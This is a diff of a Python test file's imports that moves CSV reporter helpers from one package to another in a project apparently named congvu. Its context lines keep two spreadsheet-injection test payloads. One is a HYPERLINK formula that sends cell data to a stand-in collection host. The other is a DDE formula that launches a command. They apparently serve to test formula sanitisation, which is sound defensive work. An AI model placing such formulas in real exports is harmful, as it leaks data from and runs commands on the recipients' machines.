@@ -18,6 +18,8 @@ from reportkit import FrozenClock, document, finding
 from congvu.crawl.report import report_csv
 from congvu.crawl.run import CrawlOutcome
 from congvu.model import DocumentResult, Finding
+from congvu.output import get_reporter
+from congvu.output.cells import csv_cell, is_formula_like
 from congvu.register import directory_files
 from congvu.register.evaluation import Sheet, SheetRow
 from congvu.register.recording import record
@@ -26,8 +28,6 @@ from congvu.register.schema import people
 from congvu.register.sheet_xlsx import write_sheet
 from congvu.register.store import open_store
 from congvu.register.tables import read_tables
-from congvu.report import get_reporter
-from congvu.report.cells import csv_cell, is_formula_like
 
 LEAK = '=HYPERLINK("http://thu-thap.example/?d="&A1,"Xem chi tiết")'
 DDE = "=cmd|' /C calc'!A0"
